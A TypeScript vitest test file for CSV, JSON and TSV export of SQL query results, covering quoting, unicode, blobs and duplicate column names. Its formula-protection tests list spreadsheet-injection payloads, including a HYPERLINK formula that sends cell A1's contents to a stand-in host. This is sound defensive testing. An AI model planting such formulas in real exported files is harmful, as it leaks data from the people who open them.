import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { SqlValue } from '../types';
import { resultToCsv, resultToJson, resultToTsv } from './csv';
import { blobToHex, uniqueColumnNames } from './values';

const csv = (columns: string[], rows: SqlValue[][]) => resultToCsv({ columns, rows });

describe('resultToCsv (RFC 4180)', () => {
  it('writes a header and CRLF after every record', () => {
    expect(
      csv(
        ['a', 'b'],
        [
          [1, 'x'],
          [2, 'y'],
        ],
      ),
    ).toBe('a,b\r\n1,x\r\n2,y\r\n');
  });

  it('writes only the header for an empty result, and nothing without columns', () => {
    expect(csv(['a', 'b'], [])).toBe('a,b\r\n');
    expect(csv([], [])).toBe('');
  });

  it('quotes fields with commas, quotes, CR or LF and doubles inner quotes', () => {
    expect(csv(['v'], [['a,b'], ['say "hi"'], ['line1\nline2'], ['cr\rhere'], ['crlf\r\nhere']])).toBe(
      'v\r\n"a,b"\r\n"say ""hi"""\r\n"line1\nline2"\r\n"cr\rhere"\r\n"crlf\r\nhere"\r\n',
    );
  });

  it('leaves plain fields unquoted, including ones that merely look special', () => {
    expect(csv(['v'], [["it's"], ['=SUM(A1)'], ['-5'], ['@x'], ['tab\there']])).toBe(
      "v\r\nit's\r\n=SUM(A1)\r\n-5\r\n@x\r\ntab\there\r\n",
    );
  });

  it('keeps leading and trailing spaces (quoted, which the RFC allows)', () => {
    expect(csv(['v'], [[' lead'], ['trail '], ['in side']])).toBe('v\r\n" lead"\r\n"trail "\r\nin side\r\n');
  });

  it('quotes header names that need it', () => {
    expect(csv(['a,b', 'say "x"', 'ok'], [])).toBe('"a,b","say ""x""",ok\r\n');
  });

  it('writes NULL as an empty field, numbers as JavaScript prints them, blobs as hex', () => {
    expect(
      csv(['n', 'i', 'r', 'big', 'b', 'e'], [[null, 42, 3.5, 1e21, new Uint8Array([0, 15, 255]), new Uint8Array()]]),
    ).toBe('n,i,r,big,b,e\r\n,42,3.5,1e+21,0x000fff,0x\r\n');
  });

  it('writes a lone NULL as an empty record (the RFC grammar allows an empty field)', () => {
    expect(csv(['v'], [[null], ['x']])).toBe('v\r\n\r\nx\r\n');
  });

  it('keeps unicode as is', () => {
    expect(
      csv(
        ['名前', 'emoji'],
        [
          ['東京', '👍🏽'],
          ['Zürich, CH', 'é'],
        ],
      ),
    ).toBe('名前,emoji\r\n東京,👍🏽\r\n"Zürich, CH",é\r\n');
  });

  it('round-trips through a CSV parser', () => {
    const rows = [['a,b', 'q"q', 'multi\r\nline', ' sp ', '', 'ü']];
    const parsed = Papa.parse<string[]>(csv(['1', '2', '3', '4', '5', '6'], rows), {
      newline: '\r\n',
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([['1', '2', '3', '4', '5', '6'], ...rows]);
  });
});

describe('resultToJson', () => {
  it('writes pretty objects keyed by column name, blobs as hex', () => {
    const json = resultToJson({
      columns: ['id', 'name', 'pic', 'note'],
      rows: [[1, 'Ada', new Uint8Array([1, 171]), null]],
    });
    expect(json).toBe('[\n  {\n    "id": 1,\n    "name": "Ada",\n    "pic": "0x01ab",\n    "note": null\n  }\n]');
  });

  it('suffixes duplicate column names instead of dropping values', () => {
    const json = JSON.parse(resultToJson({ columns: ['id', 'id', 'id_2', 'id'], rows: [[1, 2, 3, 4]] }));
    expect(json).toEqual([{ id: 1, id_2: 2, id_2_2: 3, id_3: 4 }]);
  });

  it('keeps text faithfully, including quotes, newlines and unicode', () => {
    const text = 'say "hi"\nnext\tline é 東京 \u2028';
    expect(JSON.parse(resultToJson({ columns: ['t'], rows: [[text]] }))).toEqual([{ t: text }]);
  });

  it('writes an empty array for no rows', () => {
    expect(resultToJson({ columns: ['a'], rows: [] })).toBe('[]');
  });

  it('keeps a column named __proto__ as a plain key', () => {
    expect(JSON.parse(resultToJson({ columns: ['__proto__'], rows: [[1]] }))).toEqual([JSON.parse('{"__proto__":1}')]);
  });

  it('writes infinite reals as text rather than null', () => {
    expect(JSON.parse(resultToJson({ columns: ['r'], rows: [[Infinity], [-Infinity]] }))).toEqual([
      { r: 'Infinity' },
      { r: '-Infinity' },
    ]);
  });
});

describe('export helpers', () => {
  it('blobToHex pads every byte', () => {
    expect(blobToHex(new Uint8Array([0, 1, 16, 255]))).toBe('0x000110ff');
  });

  it('uniqueColumnNames keeps unique names and numbers repeats from 2', () => {
    expect(uniqueColumnNames(['a', 'b', 'a', 'a'])).toEqual(['a', 'b', 'a_2', 'a_3']);
  });
});

describe('resultToCsv with formula protection (issue 11, item 12)', () => {
  const risky = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

  it('prefixes a quote to every text cell a spreadsheet would run, and to header names', () => {
    const text = resultToCsv(
      { columns: ['=bad', 'ok'], rows: risky.map((r) => [r, 'plain']) },
      { protectFormulas: true },
    );
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(["'=bad", 'ok']);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(risky.map((r) => `'${r}`));
    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves numbers, NULL, blobs and harmless text alone', () => {
    expect(
      resultToCsv({ columns: ['v'], rows: [[-5], [null], ['a=b'], [new Uint8Array([1])]] }, { protectFormulas: true }),
    ).toBe('v\r\n-5\r\n\r\na=b\r\n0x01\r\n');
  });

  it('is off unless asked for: the exact values', () => {
    expect(csv(['v'], [['=1']])).toBe('v\r\n=1\r\n');
  });
});

describe('resultToTsv', () => {
  it('tab-separated with a header; tabs, line breaks and quotes quoted; NULL empty; blobs hex', () => {
    const tsv = resultToTsv({
      columns: ['name', 'note', 'n', 'b'],
      rows: [
        ['Ann', 'a\tb', 3, new Uint8Array([1, 255])],
        ['Bo "B"', 'line\nbreak', null, null],
      ],
    });
    // No line break after the last row: pasted into a sheet, it would add an empty row.
    expect(tsv).toBe('name\tnote\tn\tb\r\nAnn\t"a\tb"\t3\t0x01ff\r\n"Bo ""B"""\t"line\nbreak"\t\t');
  });

  it('protects formulas when asked, as CSV does', () => {
    expect(resultToTsv({ columns: ['f'], rows: [['=1+1'], [-5]] }, { protectFormulas: true })).toBe("f\r\n'=1+1\r\n-5");
  });
});
